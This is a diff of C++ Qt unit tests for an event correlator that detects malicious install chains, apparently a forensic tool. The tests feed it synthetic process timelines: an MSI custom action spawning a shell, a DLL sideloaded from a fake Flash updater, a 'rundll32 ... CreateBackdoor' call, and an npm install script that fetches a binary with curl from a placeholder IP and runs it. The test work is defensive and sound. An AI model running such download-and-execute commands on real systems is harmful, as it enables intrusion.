@@ -5,7 +5,10 @@
 #include "correlator.h"
 #include "testsupport.h"
 
+#include <QJsonObject>
 #include <QTest>
+
+#include <algorithm>
 
 using namespace Chainscope;
 using Chainscope::Test::Timeline;
@@ -72,6 +75,15 @@ private slots:
     void windowsLoadsByTheInstallerAreStillTheInstall();
     void windowsDrift_data();
     void windowsDrift();
+    void msiCustomActionIsAStagedFirstRun_data();
+    void msiCustomActionIsAStagedFirstRun();
+    void codeDroppedAnywhereAndRunIsAFirstRun_data();
+    void codeDroppedAnywhereAndRunIsAFirstRun();
+    void updateSessionOwnsItsServiceHostsModules_data();
+    void updateSessionOwnsItsServiceHostsModules();
+    void downloadedBinaryOfAnInstallScriptIsAFirstRun();
+    void approvalNeedsANamedPolicyEntry();
+    void importingTheSameEvidenceTwiceChangesNothing();
 };
 
 void Tst_correlator::fullChainWithEvidenceAndFlags()
@@ -408,6 +420,284 @@ void Tst_correlator::windowsDrift()
     else
         QVERIFY2(c.mismatches.contains(expected), qPrintable(c.mismatches.join(u',')));
     QCOMPARE(c.approved, approved);
+}
+
+namespace {
+
+constexpr qint64 Window = 90 * Minute; // the default TimeWindow
+
+const Evidence *evidenceWith(const Chain &c, const QString &role, const QString &targetEnd = QString())
+{
+    for (const Evidence &e : c.evidence) {
+        if (e.role == role && (targetEnd.isEmpty() || e.target.endsWith(targetEnd, Qt::CaseInsensitive)))
+            return &e;
+    }
+    return nullptr;
+}
+
+} // namespace
+
+// AN0862 stage 3 without a stage-2 record: the Windows Installer service, whose own
+// start is before the log, is known only from its events and its child's parent
+// fields; its custom action runs from C:\Windows\Installer and starts a shell.
+void Tst_correlator::msiCustomActionIsAStagedFirstRun_data()
+{
+    QTest::addColumn<qint64>("runAt");
+    QTest::addColumn<bool>("chain");
+    QTest::newRow("inside the window") << T0 + 10 * Second << true;
+    // The shell then starts after the window: no longer part of the chain.
+    QTest::newRow("at the window's end") << T0 + Window << true;
+    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
+}
+
+void Tst_correlator::msiCustomActionIsAStagedFirstRun()
+{
+    QFETCH(qint64, runAt);
+    QFETCH(bool, chain);
+    const QString service = QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000001}");
+    const QString action = QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000002}");
+    const QString msiexec = QStringLiteral("C:\\Windows\\System32\\msiexec.exe");
+    CaseIndex index;
+    Timeline(index)
+        .platform(Platform::Windows)
+        .write(T0, 2080, QStringLiteral("C:\\Windows\\Installer\\304d1c.msi"))
+        .withGuids(service)
+        .exec(runAt, 3680, 2080, QStringLiteral("C:\\Windows\\Installer\\MSI4FFD.tmp"))
+        .withGuids(action, service, msiexec, QStringLiteral("C:\\Windows\\system32\\msiexec.exe /V"))
+        .exec(runAt + Second, 2892, 3680, QStringLiteral("C:\\Windows\\System32\\cmd.exe"), QStringLiteral("cmd"))
+        .withGuids(QStringLiteral("{AAAAAAAA-0000-0000-0000-000000000003}"), action)
+        .build();
+    // The write event names only the pid; the child's parent fields give the image.
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), chain ? 1 : 0);
+    if (!chain)
+        return;
+    const Chain &c = chains.first();
+    QCOMPARE(c.installerImage, msiexec);
+    QCOMPARE(c.installer, QStringLiteral("C:\\Windows\\system32\\msiexec.exe /V"));
+    QCOMPARE(c.firstRun, QStringLiteral("C:\\Windows\\Installer\\MSI4FFD.tmp"));
+    const bool shellInWindow = runAt + Second <= T0 + Window;
+    QCOMPARE(c.verdict, shellInWindow ? Verdict::Suspicious : Verdict::Incomplete);
+    QCOMPARE(c.mismatches.contains(Mismatch::UnexpectedChild), shellInWindow);
+    QVERIFY(!c.hasStage(Stage::Write));
+    QCOMPARE(c.missingStages.first().stage, Stage::Write);
+    QVERIFY2(c.missingStages.first().reason.startsWith(QLatin1String("write not observed")),
+        qPrintable(c.missingStages.first().reason));
+    const Evidence *run = evidenceWith(c, QStringLiteral("first_run"));
+    QVERIFY(run);
+    QVERIFY2(run->reason.contains(QLatin1String("staging folder")), qPrintable(run->reason));
+    QCOMPARE(c.processImages.contains(QStringLiteral("C:\\Windows\\System32\\cmd.exe")), shellInWindow);
+    // The service is a node of its own, known only as a parent.
+    QVERIFY(!index.process(c.seedNode).startSeen);
+}
+
+// An updater drops an executable and a DLL into the roaming profile (not a program
+// path) and runs it at once: written anywhere + run within the window is stage 2 + 3.
+void Tst_correlator::codeDroppedAnywhereAndRunIsAFirstRun_data()
+{
+    QTest::addColumn<qint64>("runAt");
+    QTest::addColumn<bool>("firstRun");
+    QTest::newRow("at once") << T0 + Second << true;
+    QTest::newRow("at the window's end") << T0 + Window << true;
+    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
+}
+
+void Tst_correlator::codeDroppedAnywhereAndRunIsAFirstRun()
+{
+    QFETCH(qint64, runAt);
+    QFETCH(bool, firstRun);
+    const QString dir = QStringLiteral("C:\\Users\\ann\\AppData\\Roaming\\");
+    CaseIndex index;
+    Timeline(index)
+        .platform(Platform::Windows)
+        .exec(T0 - Minute, 500, 4, QStringLiteral("C:\\Windows\\explorer.exe"))
+        .exec(T0, 700, 500, QStringLiteral("C:\\Users\\ann\\Downloads\\Flash_update.exe"))
+        .write(T0 + 100, 700, dir + QStringLiteral("NvSmart.exe"))
+        .write(T0 + 200, 700, dir + QStringLiteral("NvSmartMax.dll"))
+        .write(T0 + 300, 700, dir + QStringLiteral("NvSmartMax.dll.url"))
+        .exec(runAt, 800, 700, dir + QStringLiteral("NvSmart.exe"))
+        .load(runAt + 10, 800, dir + QStringLiteral("NvSmartMax.dll"), QString(), QStringLiteral("Unavailable"))
+        .exec(runAt + 20, 900, 800, QStringLiteral("C:\\Windows\\System32\\cmd.exe"), QStringLiteral("cmd.exe /A"))
+        .build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    // Nothing was written into a program path: without its run, no chain.
+    QCOMPARE(chains.size(), firstRun ? 1 : 0);
+    if (!firstRun)
+        return;
+    const Chain &c = chains.first();
+    QCOMPARE(c.firstRun, dir + QStringLiteral("NvSmart.exe"));
+    if (runAt + 20 > T0 + Window) {
+        // The load and the shell come after the window: the DLL is no longer code that
+        // ran within it, and nothing is flagged.
+        QCOMPARE(c.writtenPaths, QStringList {dir + QStringLiteral("NvSmart.exe")});
+        QVERIFY(c.mismatches.isEmpty());
+        return;
+    }
+    QCOMPARE(c.writtenPaths, (QStringList {dir + QStringLiteral("NvSmart.exe"), dir + QStringLiteral("NvSmartMax.dll")}));
+    QCOMPARE(c.mismatches, (QStringList {Mismatch::UnexpectedChild, Mismatch::UnsignedModule}));
+    QCOMPARE(c.verdict, Verdict::Suspicious);
+    const Evidence *module = evidenceWith(c, QStringLiteral("module"), QStringLiteral("NvSmartMax.dll"));
+    QVERIFY(module);
+    QCOMPARE(module->flag, Mismatch::UnsignedModule);
+    QCOMPARE(module->signatureStatus, QStringLiteral("Unavailable"));
+    // No network events for this host at all: said so, not taken as "no egress".
+    QCOMPARE(c.missingStages.last().stage, Stage::Egress);
+    QVERIFY2(c.missingStages.last().reason.contains(QLatin1String("not logged")),
+        qPrintable(c.missingStages.last().reason));
+}
+
+// An update client's session: the service host that does its work (not its child)
+// loads an unsigned module while the session runs.
+void Tst_correlator::updateSessionOwnsItsServiceHostsModules_data()
+{
+    QTest::addColumn<qint64>("loadAt");
+    QTest::addColumn<bool>("chain");
+    QTest::newRow("a second later") << T0 + Second << true;
+    QTest::newRow("at the window's end") << T0 + Window << true;
+    QTest::newRow("one microsecond after") << T0 + Window + 1 << false;
+}
+
+void Tst_correlator::updateSessionOwnsItsServiceHostsModules()
+{
+    QFETCH(qint64, loadAt);
+    QFETCH(bool, chain);
+    const QString svchost = QStringLiteral("C:\\Windows\\System32\\svchost.exe");
+    const QString dll = QStringLiteral("C:\\Windows\\System32\\WindowsCoreDeviceInfo.dll");
+    CaseIndex index;
+    Timeline(index)
+        .platform(Platform::Windows)
+        .exec(T0 - Minute, 1652, 600, svchost, QStringLiteral("svchost.exe -k netsvcs -p"))
+        .exec(T0, 2276, 6088, QStringLiteral("C:\\Windows\\System32\\UsoClient.exe"),
+            QStringLiteral("usoclient StartInteractiveScan"))
+        // A worker of the same session is no second install.
+        .exec(T0 + Second / 2, 6420, 780, QStringLiteral("C:\\Windows\\WinSxS\\x\\TiWorker.exe"))
+        .load(T0 + Second / 2 + 1, 1652, QStringLiteral("C:\\Windows\\System32\\taskschd.dll"),
+            QStringLiteral("Microsoft Windows"), QStringLiteral("Valid"))
+        .load(loadAt, 1652, dll, QString(), QStringLiteral("Unavailable"))
+        .exec(loadAt + 10, 4848, 1652, QStringLiteral("C:\\Windows\\System32\\rundll32.exe"),
+            QStringLiteral("rundll32 windowscoredeviceinfo.dll,CreateBackdoor"))
+        .build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), chain ? 1 : 0);
+    if (!chain)
+        return;
+    const Chain &c = chains.first();
+    QVERIFY(c.installerImage.endsWith(QLatin1String("UsoClient.exe")));
+    QCOMPARE(c.verdict, Verdict::Suspicious);
+    // rundll32 starts 10 us after the load: after the window in the boundary row.
+    QCOMPARE(c.mismatches.contains(Mismatch::UnexpectedChild), loadAt + 10 <= T0 + Window);
+    QVERIFY(c.mismatches.contains(Mismatch::UnsignedModule));
+    const Evidence *module = evidenceWith(c, QStringLiteral("module"), QStringLiteral("WindowsCoreDeviceInfo.dll"));
+    QVERIFY(module);
+    QCOMPARE(module->image, svchost);
+    // The session's valid loads are no evidence; the worker joined the session.
+    QVERIFY(!evidenceWith(c, QStringLiteral("module"), QStringLiteral("taskschd.dll")));
+    QCOMPARE(c.stage(Stage::Install)->eventIds.size(), 2);
+    QCOMPARE(c.firstRun, svchost);
+}
+
+// A package manager's lifecycle script (npm) downloads a binary with curl and runs
+// it; no write of the binary is logged, and it is not in a staging folder.
+void Tst_correlator::downloadedBinaryOfAnInstallScriptIsAFirstRun()
+{
+    CaseIndex index;
+    Timeline(index)
+        .exec(T0 - Minute, 3000, 1, QStringLiteral("/bin/bash"))
+        .fork(T0, 3000, 3001, QStringLiteral("/bin/bash"))
+        .exec(T0 + 10, 3001, 3000, QStringLiteral("/usr/bin/node"),
+            QStringLiteral("node /usr/lib/node_modules/npm/bin/npm-cli.js install left-padder"))
+        .fork(T0 + Second, 3001, 3002, QStringLiteral("/usr/bin/node"))
+        .exec(T0 + Second + 10, 3002, 3001, QStringLiteral("/bin/sh"), QStringLiteral("sh -c node install.js"))
+        .fork(T0 + 2 * Second, 3002, 3003, QStringLiteral("/bin/sh"))
+        .exec(T0 + 2 * Second + 10, 3003, 3002, QStringLiteral("/usr/bin/node"), QStringLiteral("node install.js"))
+        .fork(T0 + 3 * Second, 3003, 3004, QStringLiteral("/usr/bin/node"))
+        .exec(T0 + 3 * Second + 10, 3004, 3003, QStringLiteral("/usr/bin/curl"),
+            QStringLiteral("curl -fsSL -o /home/dev/.local/share/lp/lp-agent https://203.0.113.80/a"))
+        .connect(T0 + 3 * Second + 20, 3004, QStringLiteral("203.0.113.80"), 443)
+        .fork(T0 + 5 * Second, 3003, 3005, QStringLiteral("/usr/bin/node"))
+        .exec(T0 + 5 * Second + 10, 3005, 3003, QStringLiteral("/home/dev/.local/share/lp/lp-agent"),
+            QStringLiteral("/home/dev/.local/share/lp/lp-agent"))
+        .connect(T0 + 6 * Second, 3005, QStringLiteral("198.51.100.66"), 443)
+        .build();
+    const QList<Chain> chains = correlate(index, Policy::defaults());
+    QCOMPARE(chains.size(), 1);
+    const Chain &c = chains.first();
+    QCOMPARE(c.installerImage, QStringLiteral("/usr/bin/node"));
+    QCOMPARE(c.firstRun, QStringLiteral("/home/dev/.local/share/lp/lp-agent"));
+    QCOMPARE(c.egress, QStringLiteral("198.51.100.66:443"));
+    QCOMPARE(c.verdict, Verdict::Suspicious);
+    const Evidence *run = evidenceWith(c, QStringLiteral("first_run"));
+    QVERIFY(run);
+    QVERIFY2(run->reason.contains(QLatin1String("curl -fsSL")), qPrintable(run->reason));
+    // The download is the install's package source, not the new code's egress.
+    const Evidence *source = evidenceWith(c, QStringLiteral("package_source"));
+    QVERIFY(source);
+    QCOMPARE(source->target, QStringLiteral("203.0.113.80:443"));
+}
+
+// Absence of evidence is never approval: a local package whose binary runs once
+// with no network is incomplete; a source the policy names approves it.
+void Tst_correlator::approvalNeedsANamedPolicyEntry()
+{
+    const auto build = [](CaseIndex &index, bool download) {
+        Timeline t(index);
+        t.exec(T0, 1000, 900, QStringLiteral("/usr/bin/dpkg"), QStringLiteral("dpkg -i ./tool_1.0_amd64.deb"))
+            .write(T0 + Second, 1000, QStringLiteral("/usr/local/bin/tool"));
+        if (download)
+            t.connect(T0 + Second / 2, 1000, QStringLiteral("192.0.2.10"), 80);
+        t.exit(T0 + 2 * Second, 1000).exec(T0 + Minute, 2000, 1, QStringLiteral("/usr/local/bin/tool")).build();
+    };
+    Policy site = Policy::defaults();
+    QString error;
+    QVERIFY(site.applyAssignment(QStringLiteral("ApprovedRepos=http://192.0.2.10/debian"), &error));
+    {
+        CaseIndex index;
+        build(index, false);
+        for (const Policy &policy : {Policy::defaults(), site}) {
+            const QList<Chain> chains = correlate(index, policy);
+            QCOMPARE(chains.size(), 1);
+            QCOMPARE(chains.first().verdict, Verdict::Incomplete);
+            QVERIFY(!chains.first().approved);
+            QVERIFY2(chains.first().summary.contains(QLatin1String("no policy entry approves")),
+                qPrintable(chains.first().summary));
+        }
+    }
+    {
+        CaseIndex index;
+        build(index, true);
+        // Downloaded from an unnamed source, with no allow-list: unapproved, no flag.
+        QCOMPARE(correlate(index, Policy::defaults()).first().verdict, Verdict::Incomplete);
+        const Chain c = correlate(index, site).first();
+        QCOMPARE(c.verdict, Verdict::Approved);
+        QCOMPARE(evidenceWith(c, QStringLiteral("package_source"))->approvedBy,
+            QStringLiteral("ApprovedRepos http://192.0.2.10/debian"));
+        QCOMPARE(evidenceWith(c, QStringLiteral("first_run"))->approvedBy,
+            QStringLiteral("ApprovedRepos http://192.0.2.10/debian"));
+    }
+}
+
+void Tst_correlator::importingTheSameEvidenceTwiceChangesNothing()
+{
+    const auto chainsOf = [](bool twice, qint64 *dropped) {
+        CaseIndex index;
+        Timeline t(index);
+        maliciousInstall(t, T0 + 12 * Minute);
+        if (twice)
+            t.importedAgain(2);
+        t.build();
+        *dropped = index.duplicatesDropped();
+        QList<QJsonObject> out;
+        for (const Chain &c : correlate(index, Policy::defaults()))
+            out << c.toJson();
+        return out;
+    };
+    qint64 once = -1;
+    qint64 twice = -1;
+    const QList<QJsonObject> first = chainsOf(false, &once);
+    const QList<QJsonObject> second = chainsOf(true, &twice);
+    QCOMPARE(once, 0);
+    QCOMPARE(twice, 21); // every event of the second copy
+    QCOMPARE(second, first);
 }
 
 QTEST_GUILESS_MAIN(Tst_correlator)
